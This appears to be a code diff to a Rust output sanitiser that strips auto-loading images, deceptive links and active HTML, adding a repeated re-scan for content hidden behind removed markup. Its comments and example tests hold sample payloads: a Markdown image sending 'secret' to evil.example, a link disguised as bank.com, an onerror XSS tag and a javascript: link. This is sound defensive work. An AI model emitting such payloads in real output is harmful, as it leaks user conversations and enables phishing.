@@ -21,6 +21,11 @@
 //! text. Tags in plain text are written `&lt;`, spelled escapes `␛`. A rule that is set to `allow` only reports, and
 //! what it found stays, except elements and attributes that are not on the list of a sanitised HTML text.
 //!
+//! What goes may have kept something else from being read: a picture behind an HTML block that ends, a tag that a
+//! control or a character of no width holds apart. So a text is read as it stands and without the characters that
+//! nobody sees, and what comes out is read again until nothing is found in it; what only then is found is reported by
+//! its own rule, without a place. A text that never settles is shown as its own source, in which nothing acts.
+//!
 //! # Why it matters
 //! A picture that loads by itself carries a conversation out in its address, without a click. A link that shows one
 //! host and opens another is how injected text phishes. A terminal obeys what it prints.
@@ -29,12 +34,16 @@
 //! - `![](https://evil.example/?q=…)` in Markdown: only its alternative text is shown.
 //! - `[bank.com](https://evil.com)`: the text is shown, without the link.
 //! - `<img src=x onerror=…>` in a plain text: shown as `&lt;img src=x onerror=…>`.
+//! - `<script></script>![](https://evil.example/?q=…)` in Markdown: the picture goes with the script that hid it.
 //!
 //! ```example active_content
 //! render html "<p onclick=run()>hello</p>"
 //! ```
 //! ```example auto_loading_resource
 //! render markdown "done ![chart](https://evil.example/?q=secret)"
+//! ```
+//! ```example active_content, auto_loading_resource
+//! render markdown "<script></script>![chart](https://evil.example/?q=secret)"
 //! ```
 //! ```example dangerous_link
 //! render markdown "[open](javascript:run())"
@@ -237,23 +246,33 @@ impl RenderSafety {
             report.find(&UNBOUNDED_MARKUP, whole, Evidence::None);
             return;
         }
-        let remove = say(&harms, value, report);
-        if !remove.is_empty() {
-            let safe = markup::sanitise(shown, &text, &self.hosts, remove);
-            report.edits.extend(change(layer, safe.as_bytes()));
+        let mut said = harms.kinds();
+        let mut remove = say(&harms, said, true, value, report);
+        if remove.is_empty() {
+            return;
         }
+        let (mut safe, mut armed) = markup::settle(shown, &text, &self.hosts, remove);
+        // What is taken out may have kept something else from being read: then that has to go too. Every round finds
+        // a kind that none before it found.
+        for _ in Harm::ALL {
+            let more = say(&armed, armed.kinds().without(said), false, value, report);
+            if more.is_empty() {
+                break;
+            }
+            (said, remove) = (said.with(armed.kinds()), remove.with(more));
+            (safe, armed) = markup::settle(shown, &safe, &self.hosts, remove);
+        }
+        report.edits.extend(change(layer, safe.as_bytes()));
     }
 }
 
-/// Reports what was found, and answers what has to go.
-fn say<'r>(harms: &Harms, value: Value<'r>, report: &mut Report<'r>) -> HarmSet {
+/// Reports what was found of these kinds, and answers what has to go. What was found in a text that was changed has
+/// no place in the record's.
+fn say<'r>(harms: &Harms, kinds: HarmSet, placed: bool, value: Value<'r>, report: &mut Report<'r>) -> HarmSet {
     let mut remove = HarmSet::default();
-    for (harm, rule) in RULES {
+    for (harm, rule) in RULES.into_iter().filter(|(harm, _)| kinds.has(*harm)) {
         let found = harms.count(harm);
-        if found == 0 {
-            continue;
-        }
-        let range = harms.first(harm).map(|(start, end)| (start as u32, end as u32));
+        let range = harms.first(harm).filter(|_| placed).map(|(start, end)| (start as u32, end as u32));
         let evidence = Evidence::Count { found, limit: 0 };
         if report.find(rule, Place::Value { value, range }, evidence) == Decision::Redact {
             remove.add(harm);
